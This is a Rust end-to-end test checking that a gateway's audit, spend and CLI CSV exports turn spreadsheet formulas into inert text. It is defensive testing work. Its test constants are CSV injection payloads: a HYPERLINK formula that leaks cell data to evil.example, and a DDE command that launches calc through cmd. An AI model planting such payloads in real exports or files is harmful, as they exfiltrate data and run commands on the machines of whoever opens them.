//! CSV exports: a subject, team or tool name that a spreadsheet would run
//! as a formula arrives in every CSV as text (`'` in front), in the
//! console's audit and spend exports and in `tollgate usage --format csv`
//! alike; numbers such as JSON-RPC error codes stay numbers.

use serde_json::json;
use tollgate_e2e::children::tollgate_cli;

use crate::rig::Rig;

const SUBJECT: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
const TEAM: &str = "+SUM(1,2)";
const TOOL: &str = "@cmd|' /C calc'!A0";

/// The cells of a CSV document, row by row.
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// No cell starts a formula, unless it is a plain number.
fn assert_inert(text: &str) {
    for cell in cells(text).into_iter().flatten() {
        let number = cell.parse::<f64>().is_ok() && !cell.contains(['e', 'E', 'n', 'N', 'i', 'I']);
        let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(!risky || number, "{cell:?} in\n{text}");
    }
}

/// The column `name` of `text`'s rows (its first row is the header).
fn column(text: &str, name: &str) -> Vec<String> {
    let rows = cells(text);
    let at = rows[0].iter().position(|h| h == name).unwrap();
    rows[1..].iter().map(|r| r[at].clone()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_cells_are_text_in_every_csv() {
    let rig = Rig::start().await;
    let token = rig.gw.mint(SUBJECT, &["--team", TEAM, "--scope", "mcp:tools"]).await;
    assert_eq!(rig.call(&token, 1, "echo", json!({"text": "x"})).await.status, 200);
    let unknown = rig.call(&token, 2, TOOL, json!({})).await;
    assert!(String::from_utf8_lossy(&unknown.body).contains("-32602"));

    let alice = rig.sign_in("alice").await;
    let mut audit = String::new();
    for _ in 0..100 {
        audit = alice
            .get("/console/api/audit/export?format=csv")
            .await
            .text()
            .await
            .unwrap();
        if column(&audit, "subject").iter().filter(|s| !s.is_empty()).count() >= 2 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_inert(&audit);
    assert!(column(&audit, "subject").contains(&format!("'{SUBJECT}")), "{audit}");
    assert!(column(&audit, "team").contains(&format!("'{TEAM}")), "{audit}");
    assert!(column(&audit, "name").contains(&format!("'{TOOL}")), "{audit}");
    assert!(
        column(&audit, "rpc_error").contains(&"-32602".to_owned()),
        "a number stays a number"
    );

    let spend = alice.get("/console/api/spend.csv?by=subject&period=day").await;
    let spend = spend.text().await.unwrap();
    assert_inert(&spend);
    assert!(column(&spend, "key").contains(&format!("'{SUBJECT}")), "{spend}");

    let dir = rig.gw.audit_dir();
    let out = tollgate_cli(&["usage", "--by", "subject", "--format", "csv", dir.to_str().unwrap()]).await;
    let usage = String::from_utf8(out.stdout).unwrap();
    assert_inert(&usage);
    assert!(column(&usage, "subject").contains(&format!("'{SUBJECT}")), "{usage}");
}
